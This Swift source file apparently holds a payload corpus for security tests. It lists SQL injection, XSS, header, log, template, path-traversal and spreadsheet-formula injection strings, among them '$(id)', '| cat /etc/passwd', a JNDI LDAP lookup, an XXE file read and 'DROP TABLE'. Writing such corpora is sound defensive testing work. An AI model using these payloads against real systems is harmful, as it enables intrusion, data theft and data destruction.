/// What people type who mean no good. Every payload is tidy already (no blanks at its ends), so that it comes back as typed.
enum Payloads {
    static let sql: [String] =
        [
            "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "'; DROP TABLE dossier;--", "1; DELETE FROM account",
            "' UNION SELECT password_hash FROM account--",
            "admin'--", "') OR ('1'='1", "%' OR 1=1 ESCAPE '\\", "\\'; SELECT pg_sleep(10);--", "$1",
            "$$; SELECT 1; $$", "?1", ":id", "%", "_", "\\", "%%%", "'", "''", "\"", "`", ";",
            "/* */", "--", "# x", "x' AND 1=CAST((SELECT version()) AS int)--", "1/0", "NULL", "null", "NEAR(a b)",
            "a* b*", "\"a\" OR \"b\"", "a AND NOT b", "col:a", "^a", "{a b}", "a MATCH b", "LIKE '%x'", "1e308",
            "-9223372036854775808", "9223372036854775808",
        ]
        + ["'", "\"", "')", "'))", "%'", "1"].flatMap { quote in
            [
                " AND SLEEP(5)", " OR TRUE", "; COMMIT;", "; VACUUM;", " UNION ALL SELECT NULL,NULL", " GROUP BY 1",
                " ORDER BY 99", "||(SELECT 1)||",
            ].map { quote + $0 + "--" }
        }
    static let html: [String] =
        [
            "script", "img", "svg", "iframe", "body", "input", "details", "video", "math", "style", "a", "form",
            "object", "embed", "link", "meta", "base",
        ].flatMap { tag in
            [
                "<\(tag)>zq9", "<\(tag) src=x onerror=zq9()>", "<\(tag)/onload=zq9()>", "\"><\(tag) x=zq9>",
                "'><\(tag) x=zq9>", "</\(tag)><\(tag) zq9>",
            ]
        }
        + [
            "\" onmouseover=\"zq9()", "' onfocus='zq9()' autofocus='", "javascript:zq9()", "data:text/html,zq9",
            "&lt;script&gt;zq9", "&#60;b&#62;", "&amp;", "&quot;", "&", "<", ">", "<!--", "-->",
            "<![CDATA[zq9]]>", "]]>", "<?xml version='1.0'?>", "<b>đậm</b>", "</textarea><script>zq9()</script>",
            "</title><script>zq9()</script>", "</option></select><b zq9>", "<scr<script>ipt>zq9",
            "\u{3008}script\u{3009}zq9", "＜script＞zq9", "<\u{0}script>zq9".replacing("\u{0}", with: ""),
            "expression(zq9)", "@import 'zq9'", "x\" hx-get=\"/dang-xuat",
            "<div hx-post=/dang-xuat hx-trigger=load>zq9", "<form action=/x zq9>",
        ]
    static let header: [String] = [
        "a%0d%0aSet-Cookie: zq9=1", "a%0aLocation: //zq9", "%E5%98%8A%E5%98%8DX: zq9", "a\\r\\nX-Zq9: 1", "%00",
        "a%00b", "%u000aX", "%250d%250aX: 1", "Set-Cookie: zq9=1", "HTTP/1.1 200 OK",
    ]
    static let log: [String] = [
        "{\"level\":\"error\"}", "\",\"level\":\"critical\",\"x\":\"", "}{\"time\":\"x\"}", "\\u000a{\"fake\":1}",
        "\\n{\"fake\":1}", "\u{1B}[31mred", "\u{9B}31mred", "%n%s%x%d", "%@%p", "${jndi:ldap://zq9/a}", "$(id)", "`id`",
        "| cat /etc/passwd", "; ls -la", "&& whoami",
    ]
    .map { $0.replacing("\u{1B}", with: "").replacing("\u{9B}", with: "") }
    static let formulas: [String] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"].flatMap { sign in
        [
            "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://zq9\",\"x\")", "SUM(1,2);x", "\u{301}1+1", "\u{200D}1+1",
            "A1,\u{301}\"x",
        ].map { sign + $0 }
    }
    static let paths: [String] = [
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
        "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2f", "..%c0%af..%c0%af", "C:\\boot.ini", "\\\\host\\share", "~root",
        "/proc/self/environ", "con", "nul", "a/../../b", "..;/x", "//zq9.example/x",
    ]
    static let templates: [String] = [
        "{{7*7}}", "{{{x}}}", "{{#x}}a{{/x}}", "{{>partial}}", "{{=<% %>=}}", "{{! x }}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "{% raw %}", "{{constructor}}", "[[${7*7}]]", "*{7*7}", "@{x}", "\\(7*7)", "%{7*7}",
        "{{recipients}}", "{{.}}", "{{&x}}", "$x$",
    ]
    static let unicode: [String] = [
        "\u{202E}gnart", "a\u{200B}b", "a\u{200D}b", "a\u{FEFF}b", "\u{2066}x\u{2069}", "ﬁ", "Ａｄｍｉｎ", "аdmin", "İ", "ı",
        "ß", "ŉ", "ﷺ", "𝕏", "👩‍👩‍👧‍👦", "🇻🇳", "\u{FFFD}", "\u{FFFF}", "\u{10FFFF}", "\u{E000}", "e\u{301}", "o\u{31B}\u{323}",
        "Đ", "đ", "\u{1E31}", "a\u{34F}b", "\u{2028}x".replacing("\u{2028}", with: "L"),
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}", "\u{115F}", "\u{3164}", "ǅ", "ſ", "K", "Ω", "½", "①", "٣", "१",
    ]
    static let values: [String] = [
        "true", "false", "undefined", "NaN", "Infinity", "-1", "0", "1e9", "0x10", "01/01/0001", "31/02/2025", "[]",
        "{}", "[object Object]", "()", "None", "nil", "\\0", "\\x00", "0 or 1", "__proto__", "constructor", "toString",
        "__class__", "!ENTITY", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    ]

    static let all: [String] = {
        let base = sql + html + header + log + formulas + paths + templates + unicode + values
        // The same behind a word of Vietnamese: a check of the first letter only would miss them.
        let behind = (sql.prefix(30) + html.prefix(60) + templates + formulas.prefix(20)).map { "Hộ ông " + $0 }
        var seen: Set<String> = []
        return (base + behind).filter { seen.insert($0).inserted }
    }()

    /// The payloads packed into as few texts of at most `limit` letters as they need, each payload whole.
    static func packed(_ payloads: [String], limit: Int, separator: String = " ¦ ") -> [String] {
        var texts: [String] = []
        var open = ""
        for payload in payloads where payload.count <= limit {
            if !open.isEmpty, open.count + separator.count + payload.count <= limit {
                open += separator + payload
            } else {
                if !open.isEmpty { texts.append(open) }
                open = payload
            }
        }
        if !open.isEmpty { texts.append(open) }
        return texts
    }
}
